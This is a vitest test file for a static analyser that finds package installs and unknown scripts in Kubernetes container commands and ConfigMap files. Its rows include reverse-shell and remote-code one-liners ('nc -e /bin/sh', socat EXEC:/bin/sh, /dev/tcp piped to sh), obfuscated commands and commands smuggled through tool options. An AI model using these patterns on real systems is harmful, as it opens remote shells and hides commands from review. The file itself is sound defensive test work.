// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the scripts are the shell's, not templates
import { describe, expect, test } from "vitest";
import type { JsonObject } from "../../scripts/model/json.ts";
import { analyseContainer, analyseScript, summary } from "./support.ts";

/** A script for bash, and the files of the ConfigMap at `/cm` that it uses, with its installs and unknowns. */
type Row = readonly [script: string, ...expected: string[]];
type FileRow = readonly [command: readonly string[], files: JsonObject, ...expected: string[]];

function table(name: string, rows: readonly Row[]): void {
  describe(name, () => {
    test.each(rows.map(([script, ...expected]) => ({ script, expected })))(
      "$script",
      ({ script, expected }) => {
        expect(summary(analyseScript(script))).toEqual(expected);
      },
    );
  });
}

function fileTable(name: string, rows: readonly FileRow[]): void {
  describe(name, () => {
    test.each(rows.map(([command, files, ...expected]) => ({ command, files, expected })))(
      "$command with $files",
      ({ command, files, expected }) => {
        const analysis = analyseContainer(
          { command: [...command], volumeMounts: [{ name: "v", mountPath: "/cm" }] },
          { volumes: [{ name: "v", configMap: { name: "cm" } }] },
          { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "cm" }, data: files },
        );
        expect(summary(analysis)).toEqual(expected);
      },
    );
  });
}

table("words that bash builds", [
  ['cmd=(apt-get install); cmd+=(-y curl); "${cmd[@]}"', "apt-get install: curl"],
  ["declare -a L=('apt-get' 'install' '-y' 'curl'); \"${L[0]}\" \"${L[@]:1}\"", "apt-get install: curl"],
  ["L=(curl git); for p in ${L[*]}; do apk add $p; done", "apk add: curl git"],
  ['set -- install -y curl; apt-get "$@"', "apt-get install: curl"],
  [
    'local_fn() { local -n r=$1; "${r[@]}"; }; c=(apt-get install -y curl); local_fn c',
    "apt-get install: curl",
  ],
  ["IFS=' ' read -ra c <<< 'apt-get install -y curl'; \"${c[@]}\"", "apt-get install: curl"],
  ['x=apt-get,install,curl; IFS=, ; set -- $x; "$@"', "apt-get install: curl"],
  ["eval $(printf '\\141\\160\\164-get install curl')", "apt-get install: curl"],
  ["printf '%c%c%c-get install curl' a p t | sh", "apt-get install: curl"],
  ['printf "\\\\$(printf %o 97)pt-get install curl" | sh', "apt-get install: curl"],
  ["echo -e '\\x61pt-get install curl' | bash", "apt-get install: curl"],
  ["echo $'\\u0061pt-get install curl' | bash", "apt-get install: curl"],
  ["docker exec -i c sh <<< 'apt-get install -y curl'", "? installer-words"],
  ["kubectl exec -i p -- sh -c 'apt-get install -y curl'"],
  ["env | sh", "? script"],
]);

table("files that grow", [
  ["echo 'pip install a' >> /x; cp /x /y; echo 'pip install b' >> /x; sh /y", "pip install: a"],
  ["echo 'pip install a' | tee -a /x; echo 'apk add b' >> /x; sh /x", "pip install: a", "apk add: b"],
  [
    "echo 'pip install a' >> /x; cat /x >> /x; echo 'apk add b' >> /x; sh /x",
    "pip install: a",
    "pip install: a",
    "apk add: b",
  ],
  [
    "echo 'npm ci' >> /x; echo 'apk add b' > /x; echo 'pip install c' >> /x; sh /x",
    "apk add: b",
    "pip install: c",
  ],
]);

table("descriptors and connections", [
  ["exec 3</dev/tcp/h/80; sh <&3", "? script"],
  ["coproc nc h 80; sh <&${COPROC[0]}", "? script"],
  ["exec > >(tee /log) 2>&1; pip install x", "pip install: x"],
  ["{ pip install x; } > /log 2>&1", "pip install: x"],
  ["nc -e /bin/sh h 1", "? script"],
  ["ncat -l 80 -c 'pip install x'", "pip install: x"],
  ["nc h 1 | sh", "? script"],
  ["socat TCP:h:1 EXEC:/bin/sh", "? script"],
  ["socat - TCP:h:1 | sh", "? script"],
]);

table("options and settings that are commands", [
  ["git archive --remote=https://e.com/x main | tar x", "git archive"],
  ["git -c alias.x='!apt-get install curl' x", "apt-get install: curl"],
  ["git config --global alias.x '!apt-get install curl'; git x", "apt-get install: curl"],
  ["git commit -m 'npm install fix'"],
  ["su app -c 'pip install x'", "pip install: x"],
  ["psql -c 'copy (select 1) to program $$pip install x$$'", "? installer-words"],
  ["sed '1e pip install x' f", "pip install: x"],
  ["sed 's/.*/pip install x/e' f", "? script"],
  ["tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='pip install x'", "pip install: x"],
  ["tar -I 'pip install x' -xf y", "pip install: x"],
  ["tar --use-compress-program='pip install x' -xf y", "pip install: x"],
  ["rsync -e 'pip install x' a b:c", "pip install: x"],
  ["ssh -o ProxyCommand='pip install x' h", "? installer-words"],
  ["git -c core.sshCommand='pip install x' ls-remote h", "pip install: x"],
  ["crontab <<< '* * * * * pip install x'", "pip install: x"],
  ["echo '* * * * * root pip install x' > /etc/cron.d/x; cron -f", "pip install: x"],
  ["echo 'pip install x' > /etc/init.d/y; service y start", "pip install: x"],
  ["git config --global credential.helper '!f() { echo username=x; }; f'"],
  ["sed 's/e apk add x/ e y/' f"],
  ["sed -e 's/a/b/' -e '/x/d' f"],
  ["nc -z db 5432 && app"],
]);

table("files that programs fetch", [
  ["oras pull r/x:1 -o /d && chmod +x /d/x && /d/x", "oras run"],
  ["rclone copy r:b /d && sh /d/x.sh", "rclone run"],
  ["mc cp a/b/x.sh /tmp/x.sh && sh /tmp/x.sh", "mc run"],
  ["aws s3 sync s3://b /d; /d/run.sh", "aws run"],
  ["sftp h:/x.sh /tmp/x.sh; sh /tmp/x.sh", "sftp run"],
  ["s5cmd cp s3://b/x /tmp/x; sh /tmp/x", "s5cmd run"],
  ["ftpget -v h /tmp/x x; sh /tmp/x", "ftpget run"],
  ["kubectl cp p:/x /tmp/x; sh /tmp/x", "kubectl run"],
  ["docker cp c:/x /tmp/x; sh /tmp/x", "docker run"],
  ["crane export x - | tar x -C /d; /d/x.sh", "crane run"],
  ["huggingface-cli download x --local-dir /m; python /m/run.py", "huggingface-cli run"],
  ["azcopy copy 'https://h/x.sh' /tmp/x.sh; sh /tmp/x.sh", "azcopy run"],
  ["kubectl cp p:/x.json /tmp/x.json; app"],
  ["aws s3 sync s3://b/site /usr/share/nginx/html; nginx"],
]);

table("code of interpreters that is only searched", [
  ["fish -c 'pip install x'", "? installer-words"],
  ["csh -c 'pip install x'", "? installer-words"],
  ["nu -c 'pip install x'", "? installer-words"],
  ["xonsh -c 'pip install x'", "? installer-words"],
  ["julia -e 'run(`pip install x`)'", "? installer-words"],
  ['elixir -e \'System.cmd("pip", ["install","x"])\'', "? installer-words"],
  ["erl -eval 'os:cmd(\"pip install x\").'", "? installer-words"],
  ["groovy -e '\"pip install x\".execute()'", "? installer-words"],
  ["scala -e 'import sys.process._; \"pip install x\".!'", "? installer-words"],
  ['clojure -e \'(clojure.java.shell/sh "pip" "install" "x")\'', "? installer-words"],
  ["bb -e '(shell \"pip install x\")'", "? installer-words"],
  ['sbcl --eval \'(run-program "pip" (list "install" "x"))\'', "? installer-words"],
  ["guile -c '(system \"pip install x\")'", "? installer-words"],
  ["tclsh <<< 'exec pip install x'", "? installer-words"],
  ["ocaml -e 'Sys.command \"pip install x\"'", "? installer-words"],
  ["swipl -g \"shell('pip install x')\"", "? installer-words"],
  ["octave --eval 'system(\"pip install x\")'", "? installer-words"],
  ['deno eval \'new Deno.Command("pip",{args:["install","x"]}).outputSync()\'', "pip install: x"],
  ['bun -e \'Bun.spawnSync(["pip","install","x"])\'', "pip install: x"],
  ["bun -e 'await Bun.$`pip install x`'", "pip install: x"],
  ['tsx -e \'require("child_process").execSync("pip install x")\'', "pip install: x"],
  ['ts-node -e \'require("child_process").execSync("pip install x")\'', "pip install: x"],
  ['qjs -e \'os.exec(["pip","install","x"])\'', "? installer-words"],
  ["ipython -c '!pip install x'", "? installer-words"],
  ["elixir -e 'IO.puts(\"start\")'"],
  ["julia -e 'println(1)'"],
  ["fish -c 'echo ready; exec app'"],
]);

fileTable("files of interpreters and task runners", [
  [
    ["bash", "-c", "cd /cm && for f in *; do sh ./$f; done"],
    { "a.sh": "apt-get install -y curl" },
    "apt-get install: curl",
  ],
  [
    ["bash", "-c", "supervisord -n -c /cm/s.conf"],
    { "s.conf": "[program:a]\ncommand=sh -c 'pip install x && app'\n" },
    "pip install: x",
  ],
  [["bash", "-c", "s6-svscan /cm"], { "app/run": "#!/bin/sh\npip install x\n" }, "pip install: x"],
  [["bash", "-c", "runsvdir -P /cm"], { "app/run": "#!/bin/sh\npip install x\n" }, "pip install: x"],
  [["bash", "-c", "crond -f -c /cm"], { root: "@reboot pip install x\n" }, "pip install: x"],
  [
    ["bash", "-c", "just -f /cm/justfile setup"],
    { justfile: "setup:\n  pip install x\n" },
    "? installer-words",
  ],
  [
    ["bash", "-c", "task -t /cm/Taskfile.yml setup"],
    { "Taskfile.yml": "tasks: {setup: {cmds: [pip install x]}}" },
    "? installer-words",
  ],
  [
    ["bash", "-c", "pm2-runtime /cm/eco.config.js"],
    { "eco.config.js": "module.exports={apps:[{script:'npm',args:'install'}]}" },
    "? installer-words",
  ],
  [
    ["bash", "-c", "monit -I -c /cm/monitrc"],
    { monitrc: "check process a\n start program = \"/bin/sh -c 'pip install x'\"" },
    "pip install: x",
  ],
  [
    ["bash", "-c", "process-compose -f /cm/p.yaml"],
    { "p.yaml": "processes:\n  a:\n    command: pip install x\n" },
    "? installer-words",
  ],
  [
    ["bash", "-c", "ansible-playbook /cm/p.yml"],
    { "p.yml": "- hosts: localhost\n  tasks:\n  - apt: {name: curl}\n" },
    "? installer-words",
  ],
  [["pwsh", "/cm/a.ps1"], { "a.ps1": "Install-Module x\n" }, "PowerShell Install-Module: x"],
  [["julia", "/cm/a.jl"], { "a.jl": 'using Pkg\nPkg.add("x")\n' }, "? installer-words"],
  [
    ["tsx", "/cm/a.ts"],
    { "a.ts": "import {execSync} from 'child_process'; execSync('npm install')" },
    "npm install",
  ],
  [["tclsh", "/cm/a.tcl"], { "a.tcl": "exec apt-get install x" }, "? installer-words"],
  [["expect", "/cm/a.exp"], { "a.exp": "spawn apt-get install x" }, "? installer-words"],
  [["fish", "/cm/a.fish"], { "a.fish": "apt-get install x" }, "? installer-words"],
  [["elixir", "/cm/a.exs"], { "a.exs": "Mix.install([:x])" }, "? installer-words"],
  [
    ["jupyter", "nbconvert", "--execute", "/cm/a.ipynb"],
    { "a.ipynb": '{"cells":[{"cell_type":"code","source":["!pip install x"]}]}' },
    "? installer-words",
  ],
  [
    ["papermill", "/cm/a.ipynb", "o"],
    { "a.ipynb": '{"cells":[{"cell_type":"code","source":["%pip install x"]}]}' },
    "? installer-words",
  ],
  [["groovy", "/cm/a.groovy"], { "a.groovy": "@Grab('x:y:1')\nimport x" }, "? installer-words"],
  [["just", "-f", "/cm/justfile"], { justfile: "a:\n  pip install x" }, "? installer-words"],
  [
    ["python", "/cm/a.py"],
    { "a.py": "import b\n", "b.py": "import os\nos.system('pip install x')\n" },
    "pip install: x",
  ],
  [
    ["node", "/cm/a.js"],
    { "a.js": "require('./b.js')\n", "b.js": "require('child_process').execSync('pip install x')\n" },
    "pip install: x",
  ],
  [
    ["sh", "-c", "cd /cm && python -m app"],
    { "app.py": "import os\nos.system('pip install x')\n" },
    "pip install: x",
  ],
  [["just", "-f", "/cm/justfile"], { justfile: "run:\n  ./app\n" }],
  [
    ["ansible-playbook", "/cm/p.yml"],
    { "p.yml": "- hosts: localhost\n  tasks:\n    - copy: {src: a, dest: b}\n" },
  ],
  [
    ["python", "/cm/a.py"],
    { "a.py": "import b\n", "b.py": "import os\ndef go():\n  os.system('pip install x')\n" },
  ],
  [["bash", "-c", "service web start"], {}],
]);
